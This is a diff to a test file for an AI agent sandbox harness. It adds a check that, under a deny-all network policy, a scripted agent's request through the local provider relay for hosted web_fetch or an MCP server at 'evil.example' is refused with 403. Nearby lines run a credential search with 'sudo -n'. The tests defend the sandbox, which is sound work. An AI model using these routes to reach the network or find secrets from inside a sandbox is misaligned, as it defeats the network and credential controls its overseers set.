@@ -33,15 +33,28 @@ print(real, dummy, len(files))
 END
 { python3 /var/tmp/search.py; sudo -n python3 /var/tmp/search.py; } > found.txt`;
 
+// Asks the relay for what the provider would do on the network, as any program of the box may.
+const CARRY = (path, body) => `python3 - > carried.txt <<'END'
+import http.client
+c = http.client.HTTPConnection("127.0.0.1", 7332)
+c.request("POST", "${path}", ${JSON.stringify(JSON.stringify(body))})
+r = c.getresponse()
+print(r.status, r.read().decode())
+END`;
+
 const AGENTS = {
   'claude-code': { provider: 'anthropic', start: startAnthropic, model: 'claude-sonnet-4-5',
     shell: (command) => ({ name: 'Bash', input: { command, description: 'look' } }),
     seen: (headers) => headers['x-api-key'],
+    carry: CARRY('/v1/messages', { model: 'claude-sonnet-4-5', max_tokens: 9, messages: [{ role: 'user', content: 'the source: ...' }],
+      tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] }),
     edit: [{ name: 'Read', input: { file_path: `${FOLDER}/README.md` } },
       { name: 'Write', input: { file_path: `${FOLDER}/hello.txt`, content: 'hello\n' } }] },
   codex: { provider: 'openai', start: startOpenAI, model: 'gpt-5.5',
     shell: (cmd) => ({ name: 'exec_command', input: { cmd, yield_time_ms: 30000 } }),
     seen: (headers) => headers.authorization?.replace(/^Bearer /, ''),
+    carry: CARRY('/v1/responses', { model: 'gpt-5.5', input: 'the source: ...',
+      tools: [{ type: 'mcp', server_label: 'x', server_url: 'https://evil.example/' }] }),
     edit: [{ name: 'apply_patch',
       input: { patch: '*** Begin Patch\n*** Add File: hello.txt\n+hello\n*** End Patch\n' } }] },
 };
@@ -70,11 +83,12 @@ const file = (world, task, name) => {
 };
 
 for (const harness of Object.keys(AGENTS)) {
-  const { shell, edit } = AGENTS[harness];
+  const { shell, edit, carry } = AGENTS[harness];
 
   for (const network of ['allow-all', 'deny-all'])
     test(`${harness} changes a file and gets its pull request, network ${network}`, async (t) => {
-      const script = [{ text: 'I look.', tools: [shell(SEARCH)], usage: { input: 1000, output: 50 } },
+      const script = [{ text: 'I look.', usage: { input: 1000, output: 50 },
+        tools: [shell(network === 'deny-all' ? `${SEARCH}\n${carry}` : SEARCH)] },
         { tools: edit, usage: { input: 100, cached: 1000, output: 50 } },
         { text: 'Said hello.', usage: { input: 10, output: 5 } }];
       await withAgent(harness, { script, over: { box: { network } } }, async (world, model, agent) => {
@@ -95,6 +109,8 @@ for (const harness of Object.keys(AGENTS)) {
           assert.ok(files > 100);
         }
         assert.ok(found[0][1] > 0, `the search would have found it: ${found}`);
+        if (network === 'deny-all')
+          assert.match(file(world, task, 'carried.txt'), /^403 .*(web_fetch_20250910|mcp).*model\.hosted_tools/);
         const events = await allEvents(world, task.id);
         assert.ok(events.some((e) => e.kind === 'tool'), JSON.stringify(events.map((e) => e.kind)));
         assert.ok(!events.some((e) => e.text.includes('unable to resolve')), 'a box knows its own name');
